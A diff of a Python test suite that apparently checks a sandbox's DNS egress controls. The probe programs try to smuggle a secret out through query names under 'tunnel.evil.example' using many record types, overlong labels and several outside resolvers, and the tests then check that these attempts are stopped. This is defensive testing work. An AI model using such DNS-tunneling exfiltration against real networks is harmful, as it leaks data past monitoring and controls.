@@ -13,11 +13,11 @@ from security.network.inside import alerts, get, refused, say_all, status
 
 ASK = """
 import random, socket, struct
-def packet(name, qtype=1, qclass=1, flags=0x0100, more=b"", labels=None):
+def packet(name, qtype=1, qclass=1, flags=0x0100, labels=None):
     labels = labels if labels is not None else [x.encode("latin-1") for x in name.split(".") if x]
     wire = b"".join(bytes([len(x)]) + x for x in labels) + b"\\0"
-    extra = 1 if more else 0
-    return struct.pack("!6H", 4242, flags, 1, 0, 0, extra) + wire + struct.pack("!2H", qtype, qclass) + more
+    head = struct.pack("!6H", 4242, flags, 1, 0, 0, 0)
+    return head + wire + struct.pack("!2H", qtype, qclass)
 def ask(data, server="198.18.0.2", port=53, tcp=False, wait=10):
     with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET,
                        socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as sock:
@@ -47,7 +47,7 @@ SECRET = "c3VwZXItc2VjcmV0LXBheWxvYWQ"
 def test_tunnels_in_names_that_are_not_allowed_end_here(box: Sandbox) -> None:
     program = """
     payload = sys.argv[1]
-    for qtype in (1, 28, 16, 10, 15, 33, 5, 2, 6, 12, 255, 252, 251, 65, 64, 35, 256, 257, 65280, 99):
+    for qtype in (1, 28, 16, 10, 15, 33, 5, 2, 6, 12, 255, 252, 251, 65, 64, 35, 256, 65280, 99):
         found[f"type {qtype}"] = told(packet(f"{payload}.{qtype}.tunnel.evil.example", qtype))
     found["long"] = told(packet(".".join(["a" * 63] * 3) + ".evil.example", 16))
     found["deep"] = told(packet(".".join(["a"] * 100) + ".evil.example", 16))
@@ -78,7 +78,8 @@ def test_below_a_wildcard_a_name_carries_nothing_out_until_it_is_connected_to(
     monkeypatch.setattr(socket, "getaddrinfo", lambda *a, **k: asked.append(a) or real(*a, **k))
     program = """
     for number in range(200):
-        found[str(number)] = told(packet(f"{number}.{sys.argv[1]}.wild.example", (1, 16, 10)[number % 3]))
+        name, qtype = f"{number}.{sys.argv[1]}.wild.example", (1, 16, 10)[number % 3]
+        found[str(number)] = told(packet(name, qtype))
     """
     found = probe(box, ASK + textwrap.dedent(program), SECRET)
     assert [0, 1] in found.values()
@@ -100,10 +101,11 @@ def test_the_type_of_a_question_gives_nothing_but_addresses_that_stand_for_names
 def test_other_name_servers_are_not_reached(box: Sandbox) -> None:
     """Whoever is asked, it is the door that answers, and it does not know the name."""
     program = """
-    for server in ("8.8.8.8", "1.1.1.1", "9.9.9.9", "127.0.0.53", "169.254.169.253", "2001:4860:4860::8888"):
+    for server in ("8.8.8.8", "1.1.1.1", "127.0.0.53", "169.254.169.253", "2001:4860:4860::8888"):
         for tcp in (False, True):
-            found[f"{server} {tcp}"] = told(packet("evil.example", 1), server=server, tcp=tcp, wait=3)
-            found[f"{server} {tcp} known"] = told(packet("api.example", 1), server=server, tcp=tcp, wait=3)
+            way = {"server": server, "tcp": tcp, "wait": 3}
+            found[f"{server} {tcp}"] = told(packet("evil.example"), **way)
+            found[f"{server} {tcp} known"] = told(packet("api.example"), **way)
     found["dot"] = told(packet("evil.example"), server="1.1.1.1", port=853, tcp=True, wait=3)
     found["mdns"] = told(packet("evil.local"), server="224.0.0.251", port=5353, wait=2)
     found["llmnr"] = told(packet("evil"), server="224.0.0.252", port=5355, wait=2)
